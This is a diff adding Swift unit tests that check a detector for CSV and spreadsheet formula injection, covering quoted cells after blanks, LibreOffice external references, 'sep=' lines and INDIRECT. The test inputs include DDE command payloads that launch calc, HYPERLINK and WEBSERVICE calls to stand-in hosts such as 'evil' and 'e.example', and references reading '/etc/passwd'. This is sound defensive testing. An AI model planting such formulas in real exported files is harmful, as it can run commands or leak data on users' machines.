@@ -73,4 +73,73 @@ struct FormulaTests {
             #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
         }
     }
+
+    /// Round 2: a quote after blanks opens a quoted cell for some readers and is text for Excel and RFC 4180 readers,
+    /// which then split at the commas inside: cells are read both ways.
+    @Test func quotesAfterBlanksAreReadBothWays() {
+        let payloads = [
+            "=cmd|' /C calc'!A0", "=HYPERLINK(\"\\\\evil\\s\\x.exe\",\"go\")", "@SUM(1)*cmd|'/c calc'!A1", "=IMPORTXML(A1,\"//a\")",
+            "+WEBSERVICE(\"http://e.example/\")",
+        ]
+        for payload in payloads {
+            for lead in [" ", "  "] {
+                for delimiter in [",", ";", "\t"] {
+                    let csv = "name\(delimiter)comment\n\(lead)\"abc\(delimiter)\(payload)\(delimiter)\"\n"
+                    #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+                }
+            }
+        }
+        // The same quoted text read either way holds no active cell.
+        for csv in [
+            "name,note\n \"Smith, -3 (est.)\",x\n", " \"hello, =SUM(A1:A2)\",\"a, b\"\n", "a,b\n \"x; +1\", \"@bob, -2\"\n",
+            "name,delta,handle,note\nAlice,-5,@alice,\"-3 (est.)\"\nBob,+2,@bob (ops),-1\n",
+        ] {
+            #expect(
+                TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty,
+                "\(csv.debugDescription) -> \(TextActiveContent.findings(in: Array(csv.utf8), csv: true))"
+            )
+        }
+    }
+
+    /// Round 2: LibreOffice's external document reference (`'file:///…'#$Sheet.A1`) and IMAGE with a cell reference.
+    @Test func libreOfficeReferencesAndImageSources() {
+        for reference in ["'file:///etc/passwd'#$passwd.A1", "'https://h.example/x.ods'#Sheet1.A1", "'\\\\h\\s\\x.ods'#$S.A1", "'/etc/x.ods'#$S.B2"] {
+            for formula in [reference, "1+\(reference)", "HYPERLINK(\"http://e.example/?\"&\(reference),\"Click\")"] {
+                #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+                let csv = "a,b\n1,\"=\(formula.replacing("\"", with: "\"\""))\"\n"
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
+            }
+        }
+        for formula in ["A1&\"#\"&B1", "'Sheet 1'.A1", "$'My Sheet'.B2+1", "\"'x'#1\"", "'It''s'#"] {
+            #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
+        }
+        for text in ["- 1+IMAGE(A1)\n", "+0+IMAGE($B$2)\n", "- x*IMAGE(Sheet1!C3)\n", "- 1+IMAGE(CONCAT(A1,B1))\n", "@a+image(ab12)\n"] {
+            #expect(!TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text)")
+        }
+        for text in ["- see image(s) later\n", "- 1+IMAGE(optional)\n", "- 2+image(A)\n", "- 3+image(12)\n"] {
+            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
+        }
+    }
+
+    /// Round 2: Excel's `sep=` line declares the delimiter (read with and without it), and INDIRECT reaches another
+    /// document through a string.
+    @Test func declaredSeparatorsAndIndirectReferences() {
+        for separator in ["|", ":", " ", "!"] {
+            let csv = "sep=\(separator)\nname\(separator)link\nx\(separator)=HYPERLINK(\"\\\\evil\\s\\x.exe\")\n"
+            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+            #expect(!TextActiveContent.findings(in: [0xEF, 0xBB, 0xBF] + Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+        }
+        // A reader that ignores the line still splits at commas: the DDE cell is found either way.
+        #expect(!TextActiveContent.findings(in: Array("sep=|\na,=cmd|' /C calc'!A0\n".utf8), csv: true).isEmpty)
+        #expect(TextActiveContent.findings(in: Array("sep=|\na|b|=SUM(A1:A2)|-3\n".utf8), csv: true).isEmpty)
+        for formula in [
+            "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")", "1+indirect(\"[x.xlsx]S!A1\")", "INDIRECT(\"'\\\\h\\s\\[x.xls]S'!A1\")",
+            "\"'https://h.example/x.ods'#$S.A1\"&INDIRECT(A1)",
+        ] {
+            #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+        }
+        for formula in ["INDIRECT(\"Sheet1!A\"&ROW())", "INDIRECT(\"'My Sheet'!B2\")", "\"file:x\"&A1", "INDIRECT(A1)"] {
+            #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
+        }
+    }
 }
